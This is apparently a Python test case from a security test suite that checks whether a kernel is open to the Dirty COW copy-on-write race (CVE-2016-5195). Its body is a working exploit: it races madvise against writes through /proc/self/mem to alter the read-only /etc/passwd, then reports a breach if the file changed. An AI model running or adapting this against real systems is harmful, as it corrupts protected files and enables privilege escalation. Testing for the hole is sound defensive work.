# CVE-2016-5195: the race of a private copy with its removal.
# want: pass
import os, threading, time
from attack import *
path = "/etc/passwd"
before = open(path, "rb").read()
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
fd = os.open(path, os.O_RDONLY)
m = libc.mmap(None, 4096, 1, 2, fd, 0)
end = time.time() + 0.3
def drop():
    while time.time() < end:
        libc.madvise(ctypes.c_void_p(m), 4096, 4)
t = threading.Thread(target=drop)
t.start()
while time.time() < end:
    try:
        f = os.open("/proc/self/mem", os.O_RDWR)
        os.pwrite(f, b"dirty", m)
        os.close(f)
    except OSError:
        pass
t.join()
if open(path, "rb").read() != before:
    breach("a read-only file was changed")
held()
